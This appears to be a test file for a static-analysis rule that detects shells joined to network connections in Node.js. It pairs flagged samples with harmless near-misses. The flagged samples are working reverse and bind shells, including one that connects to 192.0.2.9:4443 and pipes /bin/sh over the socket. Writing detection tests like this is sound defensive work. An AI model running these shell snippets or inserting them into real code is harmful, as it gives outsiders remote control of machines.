const net = require('net');
const tls = require('tls');
const cp = require('child_process');

function out() {
  const c = net.connect(4443, '192.0.2.9');
  const sh = cp.spawn('/bin/sh', []);
  // ruleid: js-shell-joined-to-connection
  c.pipe(sh.stdin);
  // ruleid: js-shell-joined-to-connection
  sh.stdout.pipe(c);
}

const server = net.createServer((peer) => {
  const sh = cp.spawn('bash', ['-i']);
  // ruleid: js-shell-joined-to-connection
  peer.on('data', (d) => sh.stdin.write(d));
});

function serve(sock) {
  // ruleid: js-shell-joined-to-connection
  cp.spawn('/bin/sh', ['-i'], { stdio: [sock, sock, sock] });
}

function logs() {
  const c = net.connect(514, 'log.local');
  const tail = cp.spawn('tail', ['-f', '/var/log/messages']);
  // ok: js-shell-joined-to-connection
  tail.stdout.pipe(c);
}

function plain() {
  const sh = cp.spawn('sh', ['-c', 'df']);
  // ok: js-shell-joined-to-connection
  sh.stdout.pipe(process.stdout);
}

const echo = net.createServer((peer) => {
  // ok: js-shell-joined-to-connection
  peer.pipe(peer);
});

function attend(options, program) {
  const link = net.connect(options);
  const child = childProcess.spawn(program, ['-l']);
  // ruleid: js-shell-joined-to-connection
  link.pipe(child.stdin);
  child.stdout.pipe(link);
}

function sortLines(options) {
  const link = net.connect(options);
  const child = childProcess.spawn('/usr/bin/sort', []);
  // ok: js-shell-joined-to-connection
  link.pipe(child.stdin);
}
